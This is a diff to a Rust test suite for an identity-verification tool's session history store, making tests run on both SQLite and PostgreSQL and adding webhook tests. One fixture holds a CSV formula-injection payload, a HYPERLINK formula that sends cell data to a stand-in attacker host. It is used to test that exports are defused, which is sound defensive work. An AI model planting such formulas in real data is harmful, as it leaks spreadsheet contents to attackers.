@@ -22,11 +22,19 @@ pub(crate) struct Spec<'a> {
     pub(crate) profile: &'a str,
 }
 
-/// Deterministic ids (hex, no letters past f) so searches cannot hit them by chance.
+/// Deterministic, unique ids (hex, no letters past f) so searches cannot hit them by chance.
 fn next_session_id() -> String {
     static N: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(1);
     let n = N.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
-    format!("cafe{n:04x}-0000-4000-8000-{n:012x}")
+    // The counter in the letters a-f only (base 6): no digit a search looks for can come
+    // from it, however many tests ran before in this process.
+    let mut letters = String::new();
+    let mut rest = n;
+    while letters.len() < 12 {
+        letters.insert(0, char::from(b'a' + (rest % 6) as u8));
+        rest /= 6;
+    }
+    format!("cafe{}-0000-4000-8000-{letters}", &letters[8..])
 }
 
 pub(crate) fn spec(
@@ -81,6 +89,65 @@ fn temp_store() -> (tempfile::TempDir, Store) {
     (dir, store)
 }
 
+/// Store tests that hold for both stores: each runs on a SQLite file in a temp dir
+/// (`NAME::sqlite`) and on a database of its own on the test PostgreSQL server
+/// (`NAME::postgres`; `support::pg`).
+macro_rules! on_both_stores {
+    ($($name:ident),* $(,)?) => {$(
+        mod $name {
+            #[test]
+            fn sqlite() {
+                let (_dir, store) = super::temp_store();
+                super::$name(&store)
+            }
+            #[test]
+            fn postgres() {
+                let db = crate::support::pg::Database::new();
+                super::$name(&db.store())
+            }
+        }
+    )*};
+}
+
+on_both_stores!(
+    insert_and_get_round_trip_every_field,
+    prefix_lookup_needs_a_unique_prefix,
+    any_prefix_is_matched_and_an_ambiguous_one_names_its_matches,
+    pages_are_newest_first,
+    extra_fields_round_trip_and_identifiers_are_searchable,
+    search_matches_names_id_and_vendor_data_ignoring_case,
+    decisions_are_recorded,
+    delete_removes_only_that_row,
+    pending_skips_final_and_expired_oldest_first,
+    status_counts_treat_overdue_sessions_as_expired,
+    per_day_fills_empty_days,
+    first_page_and_count_agrees_with_page_and_count_up_to,
+    a_term_is_matched_whole_not_by_its_trigrams,
+    every_csv_column_is_defused_not_only_the_typed_ones,
+);
+
+/// The same history opened again: the file, or the database (the test URLs hold no
+/// password, so the URL as shown is the whole URL).
+fn reopen(store: &Store) -> Store {
+    if store.is_shared() {
+        Store::open_url(store.path()).unwrap()
+    } else {
+        Store::open(Path::new(store.path())).unwrap()
+    }
+}
+
+/// Runs `sql` on the store's database behind its back, as another program would.
+fn write_behind(store: &Store, sql: &str) {
+    if store.is_shared() {
+        crate::support::pg::sql_on(store.path(), sql);
+    } else {
+        rusqlite::Connection::open(store.path())
+            .unwrap()
+            .execute_batch(sql)
+            .unwrap();
+    }
+}
+
 /// First names of the records found by `s`.
 fn search(store: &Store, s: &str) -> Vec<String> {
     found(store, s).into_iter().map(|r| r.first_name).collect()
@@ -96,9 +163,7 @@ fn found(store: &Store, s: &str) -> Vec<Record> {
         .unwrap()
 }
 
-#[test]
-fn insert_and_get_round_trip_every_field() {
-    let (_dir, store) = temp_store();
+fn insert_and_get_round_trip_every_field(store: &Store) {
     let created =
         Utc.with_ymd_and_hms(2026, 3, 4, 5, 6, 7).unwrap() + ChronoDuration::microseconds(123_456);
     let input = SessionInput {
@@ -148,10 +213,8 @@ fn insert_and_get_round_trip_every_field() {
     assert_eq!(store.find_by_session_id("zzzz").unwrap(), None);
     assert_eq!(store.get(rec.id + 1).unwrap(), None);
 
-    // Reopening reads the same from disk.
-    let path = PathBuf::from(store.path());
-    drop(store);
-    let store = Store::open(&path).unwrap();
+    // Reopening reads the same from disk (or the server).
+    let store = reopen(store);
     assert_eq!(store.get(rec.id).unwrap(), Some(rec.clone()));
 
     // The same session twice is refused with a plain message; the first stays.
@@ -169,15 +232,13 @@ fn insert_and_get_round_trip_every_field() {
     assert_eq!(store.count(&Query::default()).unwrap(), 1);
 }
 
-#[test]
-fn prefix_lookup_needs_a_unique_prefix() {
-    let (_dir, store) = temp_store();
+fn prefix_lookup_needs_a_unique_prefix(store: &Store) {
     let mut a = spec("A", "A", t(2026, 1, 1, 0));
     a.session_id = "abcd1111-0000-4000-8000-000000000000".into();
     let mut b = spec("B", "B", t(2026, 1, 1, 0));
     b.session_id = "abcd2222-0000-4000-8000-000000000000".into();
-    add(&store, &a);
-    add(&store, &b);
+    add(store, &a);
+    add(store, &b);
     assert_eq!(store.find_by_session_id("abcd").unwrap(), None, "ambiguous");
     assert_eq!(
         store
@@ -199,9 +260,7 @@ fn prefix_lookup_needs_a_unique_prefix() {
     );
 }
 
-#[test]
-fn any_prefix_is_matched_and_an_ambiguous_one_names_its_matches() {
-    let (_dir, store) = temp_store();
+fn any_prefix_is_matched_and_an_ambiguous_one_names_its_matches(store: &Store) {
     let ids = [
         "abcd1111-0000-4000-8000-000000000000",
         "abcd2222-0000-4000-8000-000000000000",
@@ -212,7 +271,7 @@ fn any_prefix_is_matched_and_an_ambiguous_one_names_its_matches() {
     for id in ids {
         let mut s = spec("A", "A", t(2026, 1, 1, 0));
         s.session_id = id.into();
-        add(&store, &s);
+        add(store, &s);
     }
     let one = |p: &str| match store.match_session_id(p).unwrap() {
         IdMatch::One(r) => r.session_id,
@@ -235,18 +294,16 @@ fn any_prefix_is_matched_and_an_ambiguous_one_names_its_matches() {
     );
 }
 
-#[test]
-fn pages_are_newest_first() {
-    let (_dir, store) = temp_store();
+fn pages_are_newest_first(store: &Store) {
     let base = t(2026, 1, 1, 0);
     let mut ids = Vec::new();
     for i in 0..25 {
         // Inserted out of order; two share a timestamp (then the later row comes first).
         let created = base + ChronoDuration::minutes(((i * 7) % 25) as i64);
-        ids.push((created, add(&store, &spec("N", "N", created)).id));
+        ids.push((created, add(store, &spec("N", "N", created)).id));
     }
     let same = add(
-        &store,
+        store,
         &spec("Same", "Time", base + ChronoDuration::minutes(24)),
     );
     ids.push((same.created_at, same.id));
@@ -318,11 +375,9 @@ fn pages_are_newest_first() {
 /// The fields beyond the names are kept as sent, and a record is found by the person's
 /// identifiers among them (id number, email, end-user id), by short and long terms alike,
 /// but not by the others (a date of birth or an address is no way to look someone up).
-#[test]
-fn extra_fields_round_trip_and_identifiers_are_searchable() {
-    let (_dir, store) = temp_store();
+fn extra_fields_round_trip_and_identifiers_are_searchable(store: &Store) {
     let day = t(2026, 2, 1, 0);
-    add(&store, &spec("Plain", "Row", day));
+    add(store, &spec("Plain", "Row", day));
     let extra = veriff_tui::veriff::Extras {
         end_user_id: "3f2504e0-4f89-11d3-9a0c-0305e82c3301".into(),
         id_number: "38001085718".into(),
@@ -373,71 +428,69 @@ fn extra_fields_round_trip_and_identifiers_are_searchable() {
         "0305e82c3301",
         "anna 380010",
     ] {
-        assert_eq!(search(&store, term), ["Anna"], "{term}");
+        assert_eq!(search(store, term), ["Anna"], "{term}");
     }
     for term in ["Tallinn", "1980-01-08", "AB1234567", "bipa", "anna zzz"] {
-        assert!(search(&store, term).is_empty(), "{term}");
+        assert!(search(store, term).is_empty(), "{term}");
     }
     // Deleting the record takes it out of both indexes.
     assert!(store.delete(rec.id).unwrap());
-    assert!(search(&store, "38001085718").is_empty());
-    assert!(search(&store, "18").is_empty());
+    assert!(search(store, "38001085718").is_empty());
+    assert!(search(store, "18").is_empty());
 }
 
-#[test]
-fn search_matches_names_id_and_vendor_data_ignoring_case() {
-    let (_dir, store) = temp_store();
+fn search_matches_names_id_and_vendor_data_ignoring_case(store: &Store) {
     let day = t(2026, 2, 1, 0);
-    add(&store, &spec("John", "Smith", day));
+    add(store, &spec("John", "Smith", day));
     add(
-        &store,
+        store,
         &spec("Jane", "Smithers", day + ChronoDuration::hours(1)),
     );
     add(
-        &store,
+        store,
         &spec("Zoë", "Ångström", day + ChronoDuration::hours(2)),
     );
     let mut v = spec("Vendor", "Row", day + ChronoDuration::hours(3));
     v.vendor = "customer-4711 50%_off";
-    add(&store, &v);
+    add(store, &v);
     let mut id = spec("Id", "Row", day + ChronoDuration::hours(4));
     id.session_id = "f00dfeed-1234-4abc-8def-0123456789ab".into();
-    add(&store, &id);
+    add(store, &id);
     let mut other = spec("Other", "Profile", day + ChronoDuration::hours(5));
     other.profile = "live";
-    add(&store, &other);
+    add(store, &other);
 
-    assert_eq!(search(&store, "smith"), ["Jane", "John"]);
-    assert_eq!(search(&store, "SMITHERS"), ["Jane"]);
+    assert_eq!(search(store, "smith"), ["Jane", "John"]);
+    assert_eq!(search(store, "SMITHERS"), ["Jane"]);
     assert_eq!(
-        search(&store, "mit"),
+        search(store, "mit"),
         ["Jane", "John"],
         "substring, not prefix"
     );
-    assert_eq!(search(&store, "ÅNGSTRÖM"), ["Zoë"], "unicode case folding");
-    assert_eq!(search(&store, "zoë"), ["Zoë"]);
-    assert_eq!(search(&store, "4711"), ["Vendor"]);
-    assert_eq!(search(&store, "feed-1234"), ["Id"]);
-    assert_eq!(search(&store, "FOOD"), Vec::<String>::new());
+    assert_eq!(search(store, "ÅNGSTRÖM"), ["Zoë"], "unicode case folding");
+    assert_eq!(search(store, "zoë"), ["Zoë"]);
+    assert_eq!(search(store, "4711"), ["Vendor"]);
+    assert_eq!(search(store, "feed-1234"), ["Id"]);
+    assert_eq!(search(store, "FOOD"), Vec::<String>::new());
     assert_eq!(
-        search(&store, "john smith"),
+        search(store, "john smith"),
         ["John"],
         "every term must match"
     );
-    assert_eq!(search(&store, "\"quoted\" OR x"), Vec::<String>::new());
+    assert_eq!(search(store, "\"quoted\" OR x"), Vec::<String>::new());
     // Short terms: a scan, still case-insensitive, wildcards taken literally.
-    assert_eq!(search(&store, "jo"), ["John"]);
-    assert_eq!(search(&store, "J"), ["Jane", "John"]);
-    assert_eq!(search(&store, "%_"), ["Vendor"]);
-    assert_eq!(search(&store, "_"), ["Vendor"]);
-    assert_eq!(search(&store, "%"), ["Vendor"]);
-    assert_eq!(search(&store, "jo %"), Vec::<String>::new());
+    assert_eq!(search(store, "jo"), ["John"]);
+    assert_eq!(search(store, "J"), ["Jane", "John"]);
+    assert_eq!(search(store, "%_"), ["Vendor"]);
+    assert_eq!(search(store, "_"), ["Vendor"]);
+    assert_eq!(search(store, "%"), ["Vendor"]);
+    assert_eq!(search(store, "jo %"), Vec::<String>::new());
     assert_eq!(
-        search(&store, "sm jane"),
+        search(store, "sm jane"),
         ["Jane"],
         "short and long terms mix"
     );
-    assert_eq!(search(&store, "   ").len(), 6, "blank search = everything");
+    assert_eq!(search(store, "   ").len(), 6, "blank search = everything");
 
     let q = Query {
         search: Some("row".into()),
@@ -472,16 +525,14 @@ fn search_matches_names_id_and_vendor_data_ignoring_case() {
         })
         .unwrap();
     assert!(store.delete(john[0].id).unwrap());
-    assert_eq!(search(&store, "smith"), ["Jane"]);
+    assert_eq!(search(store, "smith"), ["Jane"]);
 }
 
-#[test]
-fn decisions_are_recorded() {
-    let (_dir, store) = temp_store();
+fn decisions_are_recorded(store: &Store) {
     let now = Utc::now();
-    let a = add(&store, &spec("A", "A", now - ChronoDuration::hours(3)));
-    let b = add(&store, &spec("B", "B", now - ChronoDuration::hours(2)));
-    let c = add(&store, &spec("C", "C", now - ChronoDuration::hours(1)));
+    let a = add(store, &spec("A", "A", now - ChronoDuration::hours(3)));
+    let b = add(store, &spec("B", "B", now - ChronoDuration::hours(2)));
+    let c = add(store, &spec("C", "C", now - ChronoDuration::hours(1)));
 
     let checked = now - ChronoDuration::minutes(5);
     store
@@ -569,11 +620,9 @@ fn decisions_are_recorded() {
     assert_eq!(pending, ["C"]);
 }
 
-#[test]
-fn delete_removes_only_that_row() {
-    let (_dir, store) = temp_store();
-    let a = add(&store, &spec("A", "A", t(2026, 1, 1, 0)));
-    let b = add(&store, &spec("B", "B", t(2026, 1, 1, 1)));
+fn delete_removes_only_that_row(store: &Store) {
+    let a = add(store, &spec("A", "A", t(2026, 1, 1, 0)));
+    let b = add(store, &spec("B", "B", t(2026, 1, 1, 1)));
     assert!(store.delete(a.id).unwrap());
     assert!(!store.delete(a.id).unwrap());
     assert_eq!(store.get(a.id).unwrap(), None);
@@ -581,16 +630,14 @@ fn delete_removes_only_that_row() {
     assert_eq!(store.count(&Query::default()).unwrap(), 1);
 }
 
-#[test]
-fn pending_skips_final_and_expired_oldest_first() {
-    let (_dir, store) = temp_store();
+fn pending_skips_final_and_expired_oldest_first(store: &Store) {
     let now = Utc::now();
-    let expired = add(&store, &spec("Old", "X", now - ChronoDuration::days(8)));
-    let first = add(&store, &spec("First", "X", now - ChronoDuration::days(3)));
-    let second = add(&store, &spec("Second", "X", now - ChronoDuration::days(1)));
+    let expired = add(store, &spec("Old", "X", now - ChronoDuration::days(8)));
+    let first = add(store, &spec("First", "X", now - ChronoDuration::days(3)));
+    let second = add(store, &spec("Second", "X", now - ChronoDuration::days(1)));
     let mut live = spec("Live", "X", now - ChronoDuration::days(2));
     live.profile = "live";
-    add(&store, &live);
+    add(store, &live);
     let names = |v: Vec<Record>| v.into_iter().map(|r| r.first_name).collect::<Vec<_>>();
     assert_eq!(
         names(store.pending(None, 10).unwrap()),
@@ -628,14 +675,12 @@ fn count_of(counts: &[(SessionStatus, u64)], s: &SessionStatus) -> u64 {
     counts.iter().find(|(x, _)| x == s).map_or(0, |(_, n)| *n)
 }
 
-#[test]
-fn status_counts_treat_overdue_sessions_as_expired() {
-    let (_dir, store) = temp_store();
+fn status_counts_treat_overdue_sessions_as_expired(store: &Store) {
     let now = t(2026, 6, 10, 12);
     let mk = |name: &'static str, days_ago: i64, profile: &'static str| {
         let mut s = spec(name, "X", now - ChronoDuration::days(days_ago));
         s.profile = profile;
-        add(&store, &s)
+        add(store, &s)
     };
     let _fresh1 = mk("fresh1", 1, "test");
     let _fresh2 = mk("fresh2", 2, "live");
@@ -699,17 +744,15 @@ fn status_counts_treat_overdue_sessions_as_expired() {
     );
 }
 
-#[test]
-fn per_day_fills_empty_days() {
-    let (_dir, store) = temp_store();
+fn per_day_fills_empty_days(store: &Store) {
     let now = t(2026, 3, 10, 15);
     for (d, h) in [(10, 0), (10, 14), (8, 23), (4, 1)] {
-        add(&store, &spec("x", "y", t(2026, 3, d, h)));
+        add(store, &spec("x", "y", t(2026, 3, d, h)));
     }
     let mut live = spec("l", "y", t(2026, 3, 9, 5));
     live.profile = "live";
-    add(&store, &live);
-    add(&store, &spec("future", "y", t(2026, 3, 11, 1)));
+    add(store, &live);
+    add(store, &spec("future", "y", t(2026, 3, 11, 1)));
 
     let days = store.per_day(None, 3, now).unwrap();
     let date = |d| chrono::NaiveDate::from_ymd_opt(2026, 3, d).unwrap();
@@ -1285,17 +1328,12 @@ fn opening_a_version_1_history_indexes_its_records_for_short_terms() {
     assert_eq!(search(&store, "li"), ["Lia", "Li"]);
 }
 
-#[test]
-fn first_page_and_count_agrees_with_page_and_count_up_to() {
-    let (_dir, store) = temp_store();
+fn first_page_and_count_agrees_with_page_and_count_up_to(store: &Store) {
     let day = t(2026, 4, 1, 0);
     for h in 0..7 {
-        add(
-            &store,
-            &spec("Smith", "Row", day + ChronoDuration::hours(h)),
-        );
+        add(store, &spec("Smith", "Row", day + ChronoDuration::hours(h)));
     }
-    add(&store, &spec("Rare", "One", day + ChronoDuration::hours(8)));
+    add(store, &spec("Rare", "One", day + ChronoDuration::hours(8)));
     for (text, limit, cap) in [
         ("smith", 3, 5),
         ("smith", 3, 100),
@@ -1337,21 +1375,19 @@ fn own_spec(first: &'static str, last: &'static str, created: DateTime<Utc>) -> 
     }
 }
 
-#[test]
-fn a_term_is_matched_whole_not_by_its_trigrams() {
-    let (_dir, store) = temp_store();
+fn a_term_is_matched_whole_not_by_its_trigrams(store: &Store) {
     let day = t(2026, 5, 1, 0);
     // Every trigram of "abcab" (abc, bca, cab), but never the term itself.
-    add(&store, &own_spec("Abca", "Cab", day));
+    add(store, &own_spec("Abca", "Cab", day));
     add(
-        &store,
+        store,
         &own_spec("abca cab", "x", day + ChronoDuration::hours(1)),
     );
     let mut scattered = own_spec("Scattered", "Id", day + ChronoDuration::hours(2));
     scattered.vendor = "55073818 cust-0";
-    add(&store, &scattered);
-    assert!(search(&store, "abcab").is_empty());
-    assert!(search(&store, "cust-55073818").is_empty());
+    add(store, &scattered);
+    assert!(search(store, "abcab").is_empty());
+    assert!(search(store, "cust-55073818").is_empty());
     assert_eq!(
         store
             .count(&Query {
@@ -1363,16 +1399,16 @@ fn a_term_is_matched_whole_not_by_its_trigrams() {
     );
 
     add(
-        &store,
+        store,
         &own_spec("xABCABx", "Whole", day + ChronoDuration::hours(3)),
     );
     let mut id = own_spec("Id", "Whole", day + ChronoDuration::hours(4));
     id.vendor = "CUST-55073818";
-    add(&store, &id);
-    assert_eq!(search(&store, "abCAB"), ["xABCABx"]);
-    assert_eq!(search(&store, "cust-55073818"), ["Id"]);
-    assert_eq!(search(&store, "cust-55073818 whole"), ["Id"]);
-    assert!(search(&store, "cust-55073818 abcab").is_empty());
+    add(store, &id);
+    assert_eq!(search(store, "abCAB"), ["xABCABx"]);
+    assert_eq!(search(store, "cust-55073818"), ["Id"]);
+    assert_eq!(search(store, "cust-55073818 whole"), ["Id"]);
+    assert!(search(store, "cust-55073818 abcab").is_empty());
 }
 
 /// Whatever way a search is run (by rare trigrams, or the whole phrase when every trigram
@@ -1726,12 +1762,8 @@ fn searches_stay_exact_after_rows_change_under_the_samples() {
     }
 }
 
-#[test]
-fn an_intent_becomes_a_record_completed_forgotten_or_unknown() {
+fn an_intent_becomes_a_record_completed_forgotten_or_unknown(store: &Store) {
     use veriff_tui::history::NewIntent;
-    let dir = tempfile::tempdir().unwrap();
-    let path = dir.path().join("history.sqlite3");
-    let store = Store::open(&path).unwrap();
     let ids = |store: &Store, s: &str| -> Vec<String> {
         found(store, s).into_iter().map(|r| r.session_id).collect()
     };
@@ -1760,8 +1792,8 @@ fn an_intent_becomes_a_record_completed_forgotten_or_unknown() {
     let total = |store: &Store| store.count(&Query::default()).unwrap();
 
     // Answered: the record of the session, found by its id (both search indexes).
-    let answered = intent(&store);
-    assert_eq!(total(&store), 0, "an intent in flight is no record yet");
+    let answered = intent(store);
+    assert_eq!(total(store), 0, "an intent in flight is no record yet");
     let session = CreatedSession {
         id: "d00dfeed-0000-4000-8000-00000000beef".into(),
         url: "https://alchemy.veriff.com/v/tok".into(),
@@ -1781,9 +1813,9 @@ fn an_intent_becomes_a_record_completed_forgotten_or_unknown() {
     };
     let done = store.complete_intent(answered, &new).unwrap();
     assert_eq!(store.get(done.id).unwrap().unwrap(), done);
-    assert_eq!(ids(&store, "d00dfeed"), vec![session.id.clone()]);
+    assert_eq!(ids(store, "d00dfeed"), vec![session.id.clone()]);
     assert_eq!(
-        ids(&store, "be"),
+        ids(store, "be"),
         vec![session.id.clone()],
         "short words too"
     );
@@ -1795,14 +1827,14 @@ fn an_intent_becomes_a_record_completed_forgotten_or_unknown() {
     );
 
     // Refused: nothing stays.
-    let refused = intent(&store);
+    let refused = intent(store);
     store.forget_intent(refused).unwrap();
     assert_eq!(store.give_up_intent(refused, "late").unwrap(), None);
-    assert_eq!(total(&store), 1);
+    assert_eq!(total(store), 1);
 
     // No usable answer: a record whose outcome is unknown, saying why; listed, counted, found
     // by name, never asked about.
-    let timed_out = intent(&store);
+    let timed_out = intent(store);
     let unknown = store
         .give_up_intent(timed_out, "the request timed out after 30 s")
         .unwrap()
@@ -1814,24 +1846,25 @@ fn an_intent_becomes_a_record_completed_forgotten_or_unknown() {
         unknown.check_error.as_deref(),
         Some("the request timed out after 30 s")
     );
-    assert_eq!(ids(&store, "ann").len(), 2);
+    assert_eq!(ids(store, "ann").len(), 2);
     assert_eq!(store.pending(Some("test"), 10).unwrap().len(), 1);
     let counts = store.status_counts(Some("test"), Utc::now()).unwrap();
     assert!(counts.contains(&(SessionStatus::Unknown, 1)), "{counts:?}");
 
     // Killed before an answer: ours is alive, so opening the history again leaves it; one
     // whose process is gone is given up by the next open.
-    let ours = intent(&store);
-    drop(Store::open(&path).unwrap());
+    let ours = intent(store);
+    drop(reopen(store));
     assert_eq!(
-        total(&store),
+        total(store),
         2,
         "the intent of a living process is left alone"
     );
-    let conn = rusqlite::Connection::open(&path).unwrap();
-    conn.execute("UPDATE intents SET pid = 999999999 WHERE id = ?", [ours])
-        .unwrap();
-    let reopened = Store::open(&path).unwrap();
+    write_behind(
+        store,
+        &format!("UPDATE intents SET pid = 999999999 WHERE id = {ours}"),
+    );
+    let reopened = reopen(store);
     assert_eq!(total(&reopened), 3);
     let orphan = found(&reopened, "ann")
         .into_iter()
@@ -1867,13 +1900,11 @@ fn text_written_into_the_file_by_anything_else_is_read_back_safe() {
     assert_eq!(back.decision_reason.as_deref(), Some("bad2J"));
 }
 
-#[test]
-fn every_csv_column_is_defused_not_only_the_typed_ones() {
-    let (_dir, store) = temp_store();
+fn every_csv_column_is_defused_not_only_the_typed_ones(store: &Store) {
     let mut s = spec("Anna", "Smith", t(2026, 11, 25, 10));
     // What a hostile server could answer: an id, a host and a decision that are formulas.
     s.session_id = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into();
-    add(&store, &s);
+    add(store, &s);
     let decision = veriff_tui::veriff::Decision {
         status: SessionStatus::Other("+SUM(1)".into()),
         code: Some(9001),
@@ -1888,7 +1919,7 @@ fn every_csv_column_is_defused_not_only_the_typed_ones() {
     let mut csv = Vec::new();
     let mut progress = veriff_tui::ops::progress::Progress::silent();
     veriff_tui::ops::export::write_matching(
-        &store,
+        store,
         &Query::default(),
         u64::MAX,
         &mut progress,
@@ -1928,3 +1959,95 @@ fn a_read_only_file_is_not_made_writable_by_opening_it() {
     let mode = fs::metadata(&path).unwrap().permissions().mode() & 0o777;
     assert_eq!(mode, 0o400);
 }
+
+/// Webhooks (`listen`) and kept inspections, as the store writes them: a session first
+/// heard of in a webhook becomes a record made elsewhere; the same delivery twice changes
+/// nothing; an older one is kept as stale; an inspection is replaced by a newer one and
+/// goes with its record.
+fn webhooks_and_inspections_are_kept(store: &Store) {
+    use veriff_tui::history::{Elsewhere, WebhookOutcome, WebhookWrite};
+    use veriff_tui::veriff::inspect::{Inspection, Part};
+    let sid = next_session_id();
+    let decided = |status: &str, time: &str| Decision {
+        status: SessionStatus::parse(status),
+        code: Some(9001),
+        reason: None,
+        reason_code: None,
+        decision_time: Some(time.into()),
+        vendor_data: None,
+    };
+    let write = |hash: &'static str, d: &Decision, attempt: &'static str| {
+        let w = WebhookWrite {
+            body_sha256: hash,
+            session_id: &sid,
+            kind: "decision",
+            attempt_id: Some(attempt),
+            decision: d,
+            received_at: t(2026, 3, 1, 12),
+            elsewhere: Elsewhere {
+                profile: "shop",
+                base_url: "https://stationapi.veriff.com",
+                sandbox: false,
+                first_name: "Anna",
+                last_name: "Smith",
+                vendor_data: "order-1",
+            },
+        };
+        store
+            .record_webhook(&w, |current| {
+                veriff_tui::ops::webhook::supersedes(current, d)
+            })
+            .unwrap()
+    };
+    let approved = decided("approved", "2026-03-01T10:00:00.000Z");
+    assert_eq!(
+        write("aa01", &approved, "att-1"),
+        WebhookOutcome::Applied { new_record: true }
+    );
+    let r = store.find_by_session_id(&sid).unwrap().unwrap();
+    assert!(r.made_elsewhere && r.url.is_empty(), "{r:?}");
+    assert_eq!(
+        (r.status.as_str(), r.decision_code),
+        ("approved", Some(9001))
+    );
+    assert_eq!(write("aa01", &approved, "att-1"), WebhookOutcome::Duplicate);
+    let older = decided("declined", "2026-03-01T09:00:00.000Z");
+    assert_eq!(write("aa02", &older, "att-2"), WebhookOutcome::Stale);
+    assert_eq!(
+        store
+            .find_by_session_id(&sid)
+            .unwrap()
+            .unwrap()
+            .status
+            .as_str(),
+        "approved"
+    );
+    assert_eq!(store.webhook_attempts(&sid).unwrap(), ["att-1", "att-2"]);
+    assert_eq!(search(store, "order-1"), ["Anna"]);
+
+    let inspection = |at: DateTime<Utc>| Inspection {
+        session_id: sid.clone(),
+        fetched_at: at,
+        decision: Part::Error("not fetched".into()),
+        person: Part::Error("not fetched".into()),
+        attempts: Part::Error("not fetched".into()),
+        media: Part::Error("not fetched".into()),
+        watchlist_screening: Part::Error("not fetched".into()),
+    };
+    assert_eq!(store.inspection(r.id).unwrap(), None);
+    store
+        .save_inspection(r.id, &inspection(t(2026, 3, 2, 8)))
+        .unwrap();
+    store
+        .save_inspection(r.id, &inspection(t(2026, 3, 2, 9)))
+        .unwrap();
+    let kept = store.inspection(r.id).unwrap().unwrap();
+    assert_eq!(kept.fetched_at, t(2026, 3, 2, 9));
+    assert!(store.delete(r.id).unwrap());
+    assert_eq!(store.inspection(r.id).unwrap(), None);
+}
+
+on_both_stores!(
+    webhooks_and_inspections_are_kept,
+    an_intent_becomes_a_record_completed_forgotten_or_unknown,
+);
